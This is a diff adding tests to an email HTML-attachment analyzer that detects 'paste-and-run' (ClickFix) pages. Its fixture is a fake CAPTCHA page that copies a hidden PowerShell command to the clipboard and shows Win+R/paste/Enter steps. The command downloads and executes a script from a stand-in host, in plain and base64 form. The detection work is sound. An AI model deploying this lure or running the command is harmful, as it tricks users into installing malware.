@@ -51,3 +51,28 @@ async def test_page_hidden_in_document_write_unescape(settings: Settings) -> Non
     found = g.by_symbol(await g.run_analyzers(g.message([("Payment.html", wrapper)]), settings, HtmlAttachmentAnalyzer))
     assert "collect.example-phish.test" in found["HTML_ATTACH_CREDENTIAL_FORM"].evidence
     assert "HTML_ATTACH_OBFUSCATION" in found
+
+
+CLICKFIX = """<html><body><h2>Verify you are human</h2>
+<button onclick="verify()">I'm not a robot</button>
+<p id="steps" hidden>1. Press Windows + R &nbsp; 2. Press CTRL + V &nbsp; 3. Press Enter</p>
+<script>function verify(){ navigator.clipboard.writeText(%s);
+document.getElementById('steps').hidden = false; }</script></body></html>"""
+
+
+async def test_paste_and_run_page_is_found_plain_and_encoded(settings: Settings) -> None:
+    import base64
+
+    cmd = 'powershell -w hidden -c "iwr https://cdn.example-fix.test/a.ps1 | iex"'
+    for arg in (repr(cmd), f"atob('{base64.b64encode(cmd.encode()).decode()}')"):
+        page = (CLICKFIX % arg).encode()
+        found = g.by_symbol(await g.run_analyzers(g.message([("Document.html", page)]), settings, HtmlAttachmentAnalyzer))
+        assert "(powershell) to the clipboard" in found["HTML_ATTACH_PASTE_AND_RUN"].evidence, found
+
+
+async def test_a_copy_button_for_a_code_is_not_paste_and_run(settings: Settings) -> None:
+    # A voucher or booking page that copies its code, and a help page that shows a command but
+    # copies nothing: neither is the trick.
+    for page in (CLICKFIX % "'VOUCHER-8842'", "<html><body><p>Run: <code>powershell Get-Date</code></p></body></html>"):
+        found = g.by_symbol(await g.run_analyzers(g.message([("page.html", page.encode())]), settings, HtmlAttachmentAnalyzer))
+        assert "HTML_ATTACH_PASTE_AND_RUN" not in found
